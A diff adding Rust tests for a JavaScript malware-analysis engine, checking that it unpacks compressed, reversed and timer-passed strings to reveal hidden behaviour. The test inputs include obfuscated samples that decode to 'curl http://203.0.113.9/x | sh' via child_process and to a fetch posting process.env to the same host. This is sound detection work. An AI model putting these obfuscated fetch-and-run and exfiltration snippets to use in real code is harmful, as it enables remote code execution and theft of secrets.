@@ -1,0 +1,121 @@
+//! Engine tests: text the engine unpacks (decompressed, reversed, timer strings) is analysed.
+
+use super::*;
+
+fn facts(src: &str) -> JsFacts {
+    match analyze(src, "index.js", 3, 1 << 20) {
+        Parsed::Ok(f) | Parsed::Failed(_, f) => f,
+    }
+}
+
+fn has_module(f: &JsFacts, m: &str) -> bool {
+    f.modules.iter().any(|(n, _)| n == m)
+}
+
+const ZLIB_B64: &str = "eJxLzs8rLlFILlCwVShKLSzNLErVUE/OyMxJiS8oyk9OLS5W17QGSuulVqQmB1fmJQNlS4tyFHSLFTJKSgqs9PWNDIz1DPQMDY31LPUrFGoUijOAOgABJBtX";
+const GZIP_B64: &str = "H4sIAAAAAAACA0vOzysuUUguULBVKEotLM0sStVQT87IzEmJLyjKT04tLlbXtAZK66VWpCYHV+YlA2VLi3IUdIsVMkpKCqz09Y0MjPUM9AwNjfUs9SsUahSKM4A6AOhJWpZWAAAA";
+const RAW_B64: &str = "S87PKy5RSC5QsFUoSi0szSxK1VBPzsjMSYkvKMpPTi0uVte0BkrrpVakJgdX5iUDZUuLchR0ixUySkoKrPT1jQyM9Qz0DA2N9Sz1KxRqFIozgDoA";
+
+#[test]
+fn zlib_literals_are_inflated_and_analysed() {
+    for (method, b64) in [
+        ("inflateSync", ZLIB_B64),
+        ("gunzipSync", GZIP_B64),
+        ("inflateRawSync", RAW_B64),
+        ("unzipSync", GZIP_B64),
+    ] {
+        let src = format!(
+            "const zlib = require('zlib'); const s = zlib.{method}(Buffer.from('{b64}', 'base64')).toString(); module.exports = s;"
+        );
+        let f = facts(&src);
+        assert!(has_module(&f, "child_process"), "{method}: {f:?}");
+        assert!(
+            f.derived.iter().any(|(d, _)| d.contains("curl -s")),
+            "{method}"
+        );
+        assert!(!f.decoded_code.is_empty(), "{method}");
+    }
+    // Through a variable holding the decoded buffer, with an inline require.
+    let src = format!(
+        "const b = Buffer.from('{ZLIB_B64}', 'base64'); const c = require('node:zlib').inflateSync(b).toString('utf8');"
+    );
+    assert!(has_module(&facts(&src), "child_process"));
+}
+
+#[test]
+fn zlib_misuse_and_other_data_stay_quiet() {
+    // The wrong method for the data, a deflate (compression) call and a runtime buffer fold
+    // to nothing.
+    for src in [
+        format!(
+            "const zlib = require('zlib'); zlib.gunzipSync(Buffer.from('{ZLIB_B64}', 'base64'))"
+        ),
+        format!(
+            "const zlib = require('zlib'); zlib.deflateSync(Buffer.from('{ZLIB_B64}', 'base64'))"
+        ),
+        "const zlib = require('zlib'); const out = zlib.inflateSync(fs.readFileSync(p))"
+            .to_string(),
+    ] {
+        let f = facts(&src);
+        assert!(!has_module(&f, "child_process"), "{src}");
+        assert!(f.decoded_code.is_empty(), "{src}");
+    }
+}
+
+#[test]
+fn reversing_helpers_fold() {
+    for helper in [
+        "const r = s => s.split('').reverse().join('')",
+        "const r = function (s) { return [...s].reverse().join(\"\") }",
+        "function r(s) { return Array.from(s).reverse().join('') }",
+    ] {
+        let src = format!(
+            "{helper}; const cp = require(r('ssecorp_dlihc')); cp[r('cnyScexe')](r('hs | x/9.311.0.302//:ptth lruc'));"
+        );
+        let f = facts(&src);
+        assert!(has_module(&f, "child_process"), "{helper}");
+        assert!(f.dynamic_requires.is_empty(), "{helper}");
+        assert!(
+            f.calls.iter().any(|c| c.path == "child_process.execSync"),
+            "{helper}"
+        );
+        assert!(
+            f.derived.iter().any(|(d, _)| d.contains("curl http")),
+            "{helper}"
+        );
+    }
+    // Inline spread reversal.
+    let f = facts("const m = require([...'so'].reverse().join(''));");
+    assert!(has_module(&f, "os"));
+}
+
+#[test]
+fn non_reversing_helpers_do_not_fold() {
+    // A helper that maps or sorts is not a reverser: the require stays dynamic.
+    for helper in [
+        "const r = s => s.split('').sort().join('')",
+        "const r = s => s.toUpperCase()",
+        "const r = (a, b) => a.split('').reverse().join(b)",
+    ] {
+        let f = facts(&format!("{helper}; require(r('ssecorp_dlihc'));"));
+        assert!(!has_module(&f, "child_process"), "{helper}");
+        assert_eq!(f.dynamic_requires.len(), 1, "{helper}");
+    }
+}
+
+#[test]
+fn timer_strings_are_analysed() {
+    // `setTimeout(atob(…))`: the decoded text's facts (process.env) are the file's facts.
+    let b64 = "ZmV0Y2goJ2h0dHA6Ly8yMDMuMC4xMTMuOS9jJywge21ldGhvZDogJ1BPU1QnLCBib2R5OiBKU09OLnN0cmluZ2lmeShwcm9jZXNzLmVudil9KQ==";
+    for call in ["setTimeout", "setInterval", "setImmediate"] {
+        let f = facts(&format!("{call}(atob('{b64}'), 10);"));
+        assert!(f.members.contains_key("process.env"), "{call}: {f:?}");
+        assert!(!f.decoded_code.is_empty(), "{call}");
+    }
+    // A function callback and a plain string are not unpacked.
+    let f = facts("setTimeout(() => console.log(process.title), 10); setTimeout('tick()', 5);");
+    assert!(f.decoded_code.is_empty());
+    // A name once assigned a timer handle is not a timer.
+    let f = facts("let t = setTimeout(f, 5); const m = t('function a() { return 1 }; a()');");
+    assert!(f.decoded_code.is_empty());
+}
